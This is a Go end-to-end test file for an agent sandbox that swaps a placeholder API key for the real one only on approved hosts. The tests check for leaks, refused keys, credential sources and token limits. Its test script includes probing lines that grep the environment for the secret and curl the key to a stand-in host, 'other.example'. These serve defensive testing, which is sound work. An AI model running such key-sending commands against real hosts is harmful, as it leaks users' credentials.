package e2e

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"stepbox/session/e2e/must"
)

const realKey = "sk-ant-api03-the-real-one-0123456789"

// apis are stand-ins of hosts of the internet, behind a proxy that answers for all of them.
type apis struct {
	proxy string // its address
	roots string // a file with what signed their certificates

	mu   sync.Mutex
	seen []*http.Request
}

func newAPIs(t *testing.T, dir string, handle http.HandlerFunc, names ...string) *apis {
	t.Helper()
	a := &apis{roots: filepath.Join(dir, "roots.pem")}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	must.OK(t, err)
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "corporate"}, DNSNames: names, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	must.OK(t, err)
	must.OK(t, os.WriteFile(a.roots, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644))
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.seen = append(a.seen, r)
		a.mu.Unlock()
		handle(w, r)
	}))
	srv.EnableHTTP2, srv.Config.ErrorLog = true, log.New(io.Discard, "", 0)
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	srv.StartTLS()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must.OK(t, err)
	a.proxy = "http://" + l.Addr().String()
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			wg.Go(func() { tunnel(c, srv.Listener.Addr().String()) })
		}
	})
	t.Cleanup(func() { l.Close(); srv.CloseClientConnections(); srv.Close(); wg.Wait() })
	return a
}

// tunnel answers CONNECT, whatever for.
func tunnel(c net.Conn, to string) {
	defer c.Close()
	r := bufio.NewReader(c)
	if req, err := http.ReadRequest(r); err != nil || req.Method != http.MethodConnect {
		return
	}
	io.WriteString(c, "HTTP/1.1 200 OK\r\n\r\n")
	far, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	defer far.Close()
	go func() { io.Copy(far, r); far.(*net.TCPConn).CloseWrite() }()
	io.Copy(c, far)
}

func (a *apis) requests() []*http.Request {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.seen
}

// anthropic answers as the host of that name does, and tells what it was asked with.
func anthropic(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, `{"key":%q,"bearer":%q,"usage":{"input_tokens":1200,"output_tokens":34}}`, r.Header.Get("X-Api-Key"), r.Header.Get("Authorization"))
}

// TestCredential: an agent has a placeholder, the host gets the real one, and the real one
// is nowhere else: not in the sandbox, not in the answer, not in the record. The person's
// own authorities count for the host, and for programs inside.
func TestCredential(t *testing.T) {
	t.Parallel()
	p := newPerson(t)
	a := newAPIs(t, p.dir, anthropic, "api.anthropic.com", "other.example")
	p.write("ask.sh", `
echo "has $ANTHROPIC_API_KEY"
env | grep -c "the-real.one"
u=https://api.anthropic.com/v1/messages
curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" $u
python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("'$u'",headers={"x-api-key":os.environ["ANTHROPIC_API_KEY"]})).read().decode())'
node -e 'fetch("'$u'",{headers:{"x-api-key":process.env.ANTHROPIC_API_KEY}}).then(r=>r.text()).then(console.log,e=>console.log(e.cause))'
env -i PATH=$PATH curl -sS $u
curl -sS -H "x-api-key: sk-ant-attacker" $u
curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" https://other.example/
`)
	cmd := p.command(t.Context(), "run", "--credential", "anthropic", "--allow-host", "other.example:443", "--", "bash", "ask.sh")
	cmd.Env = append(cmd.Env, "HTTPS_PROXY="+a.proxy, "NODE_EXTRA_CA_CERTS="+a.roots, "ANTHROPIC_API_KEY="+realKey)
	out, err := cmd.CombinedOutput()
	got := strings.ReplaceAll(string(out), "\r", "")
	if err != nil {
		t.Fatalf("%v: %s", err, got)
	}
	const placeholder = "sk-ant-api03-stepbox-placeholder-anthropic"
	good := fmt.Sprintf(`{"key":%q,"bearer":"","usage":{"input_tokens":1200,"output_tokens":34}}`, strings.Repeat("*", len(realKey)))
	if strings.Contains(got, "the-real-one") || strings.Count(got, good) != 4 || !strings.HasPrefix(got, "has "+placeholder+"\n0\n") {
		t.Errorf("it said %s", got)
	}
	for _, want := range []string{"it carries a credential of its own in X-Api-Key", `{"key":"` + placeholder} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in %s", want, got)
		}
	}
	for i, r := range a.requests() {
		if want := [2]string{realKey, placeholder}[i/4]; r.Header.Get("X-Api-Key") != want {
			t.Errorf("request %d came with %v", i, r.Header)
		}
	}
	name := p.sessions()[0].ID
	s := p.show(name)
	if len(s.Credentials) != 1 || len(s.Spend) != 1 || s.Spend[0].Requests != 4 || s.Spend[0].Input != 4800 || s.Spend[0].Output != 136 {
		t.Errorf("it is recorded as %+v %+v", s.Credentials, s.Spend)
	}
	if shown := p.do("show", name); !strings.Contains(shown, "anthropic: the header x-api-key to api.anthropic.com:443, from $ANTHROPIC_API_KEY") || !strings.Contains(shown, "4800 tokens in") {
		t.Errorf("show says %s", shown)
	}
	if net := p.do("net", name); !strings.Contains(net, "refused GET /v1/messages: it carries a credential of its own in X-Api-Key") || strings.Count(net, "looked into for the credential anthropic") != 5 {
		t.Errorf("net says %s", net)
	}
	if notes := p.do("log", name); !strings.Contains(notes, "a request to api.anthropic.com was refused") {
		t.Errorf("log says %s", notes)
	}
	p.nowhere("the-real-one", filepath.Join(p.dir, "data"))
}

// nowhere fails the test if a text is in a file below a folder.
func (p *person) nowhere(text, dir string) {
	p.t.Helper()
	err := filepath.WalkDir(dir, func(path string, e os.DirEntry, err error) error {
		if err == nil && e.Type().IsRegular() {
			if b, _ := os.ReadFile(path); strings.Contains(string(b), text) {
				p.t.Errorf("%s has it", path)
			}
		}
		return err
	})
	if err != nil {
		p.t.Error(err)
	}
}

// TestNoCredential: without one nothing is looked into, and there is no certificate but the
// person's own.
func TestNoCredential(t *testing.T) {
	t.Parallel()
	p := newPerson(t)
	a := newAPIs(t, p.dir, anthropic, "api.anthropic.com")
	cmd := p.command(t.Context(), "run", "--allow-host", "api.anthropic.com:443", "--", "bash", "-c",
		`env | grep -E 'CERT|_CA|ANTHROPIC'; ls /run/stepbox; curl -sS -v -H "x-api-key: mine" https://api.anthropic.com/ 2>&1 | grep -iE 'issuer|"key"'`)
	cmd.Env = append(cmd.Env, "HTTPS_PROXY="+a.proxy, "SSL_CERT_FILE="+a.roots, "ANTHROPIC_API_KEY="+realKey)
	out, err := cmd.CombinedOutput()
	if got := string(out); err != nil || strings.Contains(got, "Stepbox") || !strings.Contains(got, `"key":"mine"`) || strings.Count(got, "CERT") != 1 || !strings.Contains(got, "SSL_CERT_FILE="+a.roots) {
		t.Errorf("%v: it said %s", err, got)
	}
}

// TestCredentialSources: where a credential comes from is the person's to say, and never in
// the project.
func TestCredentialSources(t *testing.T) {
	t.Parallel()
	p := newPerson(t)
	a := newAPIs(t, p.dir, anthropic, "api.example")
	key := filepath.Join(p.home, "key")
	must.OK(t, os.WriteFile(key, []byte(realKey+"\n"), 0o600))
	p.write("key", realKey)
	p.write("give", "#!/bin/sh\necho "+realKey+"\n")
	file := filepath.Join(p.home, ".config", "stepbox", "policy.yaml")
	must.OK(t, os.MkdirAll(filepath.Dir(file), 0o700))
	try := func(project, from string, more ...string) (string, error) {
		entry := "credentials:\n  - {host: api.example, bearer: true, placeholder: KEY, from: " + from + "}\n"
		must.OK(t, os.WriteFile(file, []byte(entry), 0o600))
		p.write(".stepbox.yaml", project)
		cmd := p.command(t.Context(), "run", "--", "bash", "-c", `curl -sS -H "Authorization: Bearer $KEY" https://api.example/`)
		cmd.Env = append(cmd.Env, append([]string{"HTTPS_PROXY=" + a.proxy, "SSL_CERT_FILE=" + a.roots}, more...)...)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	for _, from := range []string{"{file: ~/key}", "{command: [sh, -c, 'echo " + realKey + "; pwd >&2']}", "{env: [NONE, MY_KEY]}"} {
		got, err := try("", from, "MY_KEY="+realKey)
		if want := `"bearer":"Bearer ` + strings.Repeat("*", len(realKey)); err != nil || !strings.Contains(got, want) {
			t.Errorf("%s: %v, %s", from, err, got)
		}
	}
	before := len(a.requests())
	for _, c := range []struct{ project, from, want string }{
		{"", "{env: NONE}", "$NONE: it isn't set in your environment"},
		{"", "{file: ~/none}", "no such file"},
		{"", "{file: " + filepath.Join(p.project, "key") + "}", "it is in the project"},
		{"", "{command: [" + filepath.Join(p.project, "give") + "]}", "the program is in the project"},
		{"", "{command: [none-such]}", "there is no program"},
		{"", "{command: ['false']}", "exit status 1"},
		{"", "{command: [echo, a b c d e f]}", "spaces"},
		{"", "{command: [echo, short]}", "5 bytes"},
		{"credentials:\n  - {known: anthropic}\n", "{file: ~/key}", ".stepbox.yaml:2:1: a project can't name credentials"},
	} {
		if got, err := try(c.project, c.from); err == nil || !strings.Contains(got, c.want) || strings.Contains(got, "the-real-one") {
			t.Errorf("%s: %v, %s, want %q", c.from, err, got, c.want)
		}
	}
	if len(a.requests()) != before {
		t.Error("a request arrived")
	}
}

// TestTokensLimit: beyond a limit on tokens a request waits for a person.
func TestTokensLimit(t *testing.T) {
	t.Parallel()
	p := newPerson(t)
	a := newAPIs(t, p.dir, anthropic, "api.anthropic.com")
	cmd := p.command(t.Context(), "run", "--credential", "anthropic", "--tokens", "1K", "--on-ask", "deny", "--", "bash", "-c",
		`for i in 1 2; do curl -sS https://api.anthropic.com/; echo; done`)
	cmd.Env = append(cmd.Env, "HTTPS_PROXY="+a.proxy, "SSL_CERT_FILE="+a.roots, "ANTHROPIC_API_KEY="+realKey)
	out, err := cmd.CombinedOutput()
	got := string(out)
	if err != nil || strings.Count(got, "output_tokens") != 1 || !strings.Contains(got, "the limit of this session is used up: tokens 1K (--tokens)") || len(a.requests()) != 1 {
		t.Errorf("%v: it said %s", err, got)
	}
}
